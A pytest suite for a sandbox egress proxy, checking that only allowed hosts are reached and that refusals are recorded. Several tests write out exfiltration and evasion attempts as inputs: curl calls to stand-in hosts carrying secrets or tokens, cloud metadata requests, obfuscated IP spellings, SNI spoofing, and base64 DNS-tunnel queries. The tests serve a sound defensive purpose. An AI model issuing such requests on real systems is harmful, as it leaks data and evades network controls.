"""What a sandbox reaches through its door, and what it does not: each attempt is recorded with its run."""

import sys

import pytest

from domain.egress import Purpose, Reach

DIRECT = "curl -s -m 5 --noproxy '*' -o /dev/null"


def test_an_allowed_name_is_reached_over_tls_that_nobody_in_between_reads(inside):
    assert inside.curl("https://files.test/echo?secret=1") == "200"
    one = inside.attempt(reach=Reach.CONNECT, host="files.test", port=443, allowed=True, reason="allowed")
    assert (one.door, one.purpose, one.path, one.method) == (inside.door.id, Purpose.HARNESS, None, None)
    assert one.bytes_up > 100
    assert one.bytes_down > 500


def test_an_allowed_name_is_reached_over_plain_http(inside):
    assert inside.curl("http://files.test/echo?secret=1") == "200"
    one = inside.attempt(reach=Reach.HTTP, host="files.test", port=80, allowed=True)
    assert (one.method, one.path) == ("GET", "/echo")


def test_a_name_below_an_allowed_domain_is_reached(inside):
    assert inside.curl("https://sub.wide.test/echo") == "200"
    assert "403" in inside.curl("http://wide.test/echo")


def test_an_exempt_mirror_on_this_machine_is_reached_on_its_port_alone(inside):
    assert inside.curl("https://loop.test:8443/echo") == "200"
    assert "403" in inside.curl("https://loop.test/echo")
    inside.attempt(host="loop.test", port=443, reason="port-not-allowed")


@pytest.mark.parametrize(
    ("url", "host", "reason"),
    [
        ("http://evil.test/x", "evil.test", "name-not-allowed"),
        ("https://evil.test/x", "evil.test", "name-not-allowed"),
        ("https://api.test/v1/echo", "api.test", "name-not-allowed"),
        ("https://files.test.evil.test/", "files.test.evil.test", "name-not-allowed"),
        ("https://evilfiles.test/", "evilfiles.test", "name-not-allowed"),
        ("http://files.test:22/", "files.test", "port-not-allowed"),
        ("https://files.test:9443/", "files.test", "port-not-allowed"),
        ("http://169.254.169.254/latest/meta-data/", "169.254.169.254", "address"),
        ("https://93.184.216.34/", "93.184.216.34", "address"),
        ("http://127.0.0.1:8080/", "127.0.0.1", "address"),
        ("http://[::1]:8080/", "[::1]", "address"),
        ("https://[2606:4700::1111]/", "[2606:4700::1111]", "address"),
        ("http://private.test/", "private.test", "private-address"),
        ("https://private.test/", "private.test", "private-address"),
        ("http://metadata.test/", "metadata.test", "private-address"),
        ("https://mixed.test/", "mixed.test", "private-address"),
        ("https://own.test/", "own.test", "own-address"),
    ],
)
def test_everything_else_is_refused_and_recorded(inside, url, host, reason):
    assert "403" in inside.curl("-g", "--noproxy", "", url)
    one = inside.attempt(host=host, reason=reason, allowed=False)
    assert one.bytes_up == 0


@pytest.mark.parametrize(
    "spelling", ["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.16689662", "0xa9.254.0xa9fe"]
)
def test_an_address_in_another_spelling_is_an_address(inside, spelling):
    answer = inside.say(f"GET http://{spelling}/ HTTP/1.1\r\nhost: {spelling}\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 403 ")
    inside.attempt(host=spelling, reason="address")


def test_a_refusal_says_why_and_what_to_do(inside):
    answer = inside.run("curl -s -i http://evil.test/secret?token=1").stdout
    assert "x-egress-refused: name-not-allowed" in answer
    assert "add evil.test to policy/rules/egress.yaml" in answer
    assert "token" not in inside.attempt(host="evil.test").model_dump_json()


def test_a_server_that_does_not_answer_or_exist_is_told_apart_from_a_refused_one(inside):
    assert "502" in inside.curl("https://gone.wide.test/")
    inside.attempt(host="gone.wide.test", reason="unresolved", allowed=False)


def test_the_name_in_the_tls_hello_must_be_the_one_asked_for(inside):
    inside.run("curl -sk -m 5 --connect-to other.test:443:files.test:443 https://other.test/stolen")
    one = inside.attempt(host="files.test", port=443, reason="sni-mismatch")
    assert one.bytes_up == 0


def test_a_tls_hello_that_names_nobody_is_cut(inside):
    program = (
        "import socket,ssl\ns=socket.create_connection(('127.0.0.1',3128))\n"
        "s.sendall(b'CONNECT files.test:443 HTTP/1.1\\r\\nhost: files.test:443\\r\\n\\r\\n');s.recv(999)\n"
        "c=ssl._create_unverified_context();c.check_hostname=False;c.wrap_socket(s)\n"
    )
    assert inside.run(f'/usr/bin/python3 -c "{program}"').returncode != 0
    inside.attempt(host="files.test", reason="sni-mismatch")


@pytest.mark.parametrize(
    "first", [b"SSH-2.0-x\r\n", b"GET / HTTP/1.1\r\nhost: files.test\r\n\r\n", b"\x16\x03\x01\xff\xff" + b"\0" * 70000]
)
def test_only_tls_goes_through_a_tunnel(inside, first):
    answer = inside.say(b"CONNECT files.test:443 HTTP/1.1\r\nhost: files.test:443\r\n\r\n", first)
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert answer.endswith(b"\r\n\r\n")
    inside.attempt(host="files.test", reason="not-tls", bytes_up=0)


def test_a_client_that_does_not_wait_for_the_tunnel_loses_nothing(inside):
    hello = bytes.fromhex("16030100")  # a torn hello, sent with the request
    answer = inside.say(b"CONNECT files.test:443 HTTP/1.1\r\nhost: files.test:443\r\n\r\n" + hello)
    assert answer.startswith(b"HTTP/1.1 200 ")
    inside.attempt(host="files.test", reason="not-tls")


def test_real_programs_work_without_being_told_more_than_the_environment(inside):
    python = "import urllib.request as u; print(u.urlopen('https://files.test/echo').status)"
    assert inside.run(f'/usr/bin/python3 -c "{python}"').stdout == "200\n"
    assert inside.run("git ls-remote https://files.test/echo").returncode == 0
    inside.attempt(host="files.test", allowed=True)


def test_pip_goes_through_the_door_and_trusts_whom_this_machine_trusts(inside):
    pip = f"{sys.executable} -m pip --disable-pip-version-check download nothing --no-deps --index-url https://files.test/simple"
    said = inside.run(pip).stderr
    assert "SSL" not in said
    assert "no matching distribution" in said.lower()
    assert inside.attempt(host="files.test", port=443, allowed=True).bytes_down > 500


def test_programs_that_know_no_proxy_reach_allowed_names_by_tls_server_name_and_host_header(inside):
    assert inside.curl("https://files.test/echo", proxy=False) == "200"
    assert inside.curl("http://files.test/echo", proxy=False) == "200"
    inside.attempt(reach=Reach.CONNECT, host="files.test", port=443, allowed=True)
    inside.attempt(reach=Reach.HTTP, host="files.test", port=80, allowed=True)
    inside.attempt(reach=Reach.NAME, host="files.test", allowed=True)


def test_programs_that_know_no_proxy_are_refused_the_rest(inside):
    assert inside.curl("http://evil.test/x", proxy=False).startswith("403")
    assert "000" in inside.curl("https://evil.test/x", proxy=False)
    inside.attempt(reach=Reach.HTTP, host="evil.test", reason="name-not-allowed")
    inside.attempt(reach=Reach.CONNECT, host="evil.test", reason="name-not-allowed")
    inside.attempt(reach=Reach.NAME, host="evil.test", reason="name-not-allowed")


def test_every_name_asked_is_recorded_and_answered_with_this_machine(inside):
    ask = (
        "import socket,struct\n"
        "def ask(name,kind,tcp=False):\n"
        " q=struct.pack('>6H',7,256,1,0,0,0)+b''.join(bytes([len(l)])+l for l in name.encode().split(b'.'))+b'\\0'+struct.pack('>2H',kind,1)\n"
        " s=socket.socket(socket.AF_INET,socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(9); s.connect(('127.0.0.1',53))\n"
        " s.send((struct.pack('>H',len(q)) if tcp else b'')+q); r=s.recv(999); s.close(); return r[2:] if tcp else r\n"
        "a=ask('c2VjcmV0.tunnel.evil.test',16); print(a[6:8].hex())\n"
        "a=ask('tcp.evil.test',1,True); print(a[-4:].hex())\n"
        "a=ask('v6.evil.test',28); print(a[6:8].hex())\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); [s.sendto(x,('127.0.0.1',53)) for x in (b'',b'x',b'\\0'*11,b'\\0\\7\\1\\0\\0\\1'+b'\\0'*6+b'\\xc0\\x0c', b'\\xff'*300)]\n"
        "a=ask('after.evil.test',1); print(a[-4:].hex())\n"
    )
    assert inside.run(f'/usr/bin/python3 -c "{ask}"').stdout.split() == ["0000", "7f000001", "0000", "7f000001"]
    for name in ("c2VjcmV0.tunnel.evil.test", "tcp.evil.test", "v6.evil.test", "after.evil.test"):
        inside.attempt(reach=Reach.NAME, host=name.lower(), reason="name-not-allowed", allowed=False)


def test_connections_to_addresses_that_a_firewall_rule_catches_are_recorded(inside):
    rules = "iptables -t nat -A OUTPUT -p tcp ! -d 127.0.0.0/8 -j REDIRECT --to-ports 3129; ip route add default dev lo src 127.0.0.1"
    inside.run(
        "curl -s -m 5 --noproxy '*' http://93.184.216.34:8081/; curl -sk -m 5 --noproxy '*' https://10.9.8.7/",
        before=rules,
    )
    inside.attempt(reach=Reach.ADDRESS, host="93.184.216.34", port=8081, reason="address")
    inside.attempt(reach=Reach.ADDRESS, host="10.9.8.7", port=443, reason="address")


SERVERS = {"8.8.8.8": "four.evil.test", "2001:4860:4860::8888": "six.evil.test"}
CAUGHT = """
ip route add local 0.0.0.0/0 dev lo; ip -6 route add local ::/0 dev lo
iptables -w -t nat -A OUTPUT -p udp ! -d 127.0.0.0/8 -j REDIRECT --to-ports 3129
ip6tables -w -t nat -A OUTPUT -p udp ! -d ::1/128 -j REDIRECT --to-ports 3129
"""
SENDING = """
import socket, struct
def ask(host, port, data):
    sock = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(9)
    sock.connect((host, port))
    sock.send(data)
    return sock
def question(name):
    labels = b''.join(bytes([len(one)]) + one.encode() for one in name.split('.'))
    return struct.pack('>6H', 7, 256, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, 1, 1)
"""


def test_packets_to_addresses_that_a_firewall_rule_catches_are_recorded_and_bounded(inside):
    program = (
        f"{SENDING}\nfor _ in range(3000): ask('93.184.216.34', 4444, b'secret')\nask('2606:4700::1111', 4444, b'x')"
    )
    answered = "ask('8.8.8.8', 53, question('v4.evil.test')).recv(9)"  # the relay has seen what came before
    inside.run(f'/usr/bin/python3 -c "{program}\n{answered}"', before=CAUGHT)
    one = inside.attempt(reach=Reach.ADDRESS, host="udp", port=None, reason="address", allowed=False)
    assert "secret" not in one.model_dump_json()
    assert len(inside.attempts()) < 20


def test_a_question_to_another_name_server_is_recorded_by_its_name_and_answered_here(inside):
    asked = [f"ask('{host}', 53, question('{name}')).recv(999)[-4:].hex()" for host, name in SERVERS.items()]
    done = inside.run(f'/usr/bin/python3 -c "{SENDING}\nfor one in ({", ".join(asked)}): print(one)"', before=CAUGHT)
    assert done.stdout.split() == ["7f000001"] * 2, done.stderr
    for name in SERVERS.values():
        inside.attempt(reach=Reach.NAME, host=name, reason="name-not-allowed", allowed=False)


def test_a_packet_that_keeps_its_address_is_recorded_with_it(inside):
    routes = "ip route add local 0.0.0.0/0 dev lo; ip -6 route add local ::/0 dev lo"
    sent = "ask('93.184.216.34', 3129, b'x'); ask('2606:4700::1111', 53, b'x'); ask('8.8.8.8', 53, question('v4.evil.test')).recv(9)"
    inside.run(f'/usr/bin/python3 -c "{SENDING}\n{sent}"', before=routes)
    inside.attempt(reach=Reach.NAME, host="v4.evil.test")
    inside.attempt(reach=Reach.ADDRESS, host="93.184.216.34", port=3129, reason="address")
    inside.attempt(reach=Reach.ADDRESS, host="[2606:4700::1111]", port=53, reason="address")


def test_there_is_no_other_way_out(inside):
    for url in ("http://93.184.216.34/", "http://169.254.169.254/", "http://[2606:4700::1111]/", "http://10.1.2.3/"):
        assert inside.run(f"{DIRECT} -g '{url}'").returncode in (7, 28)
    assert inside.run("ip -o link | grep -vc 'lo:'").stdout.strip() == "0"


def test_a_door_with_an_empty_list_opens_to_nobody(opened, broker_root):
    inside = opened(broker_root, allow=(), exempt=(), upstreams=(), purpose=Purpose.VERIFY)
    assert "403" in inside.curl("https://files.test/echo")
    assert inside.curl("http://127.0.0.1:3128/model/v1/echo") == "403"
    assert inside.attempt(host="files.test", reason="name-not-allowed").purpose is Purpose.VERIFY
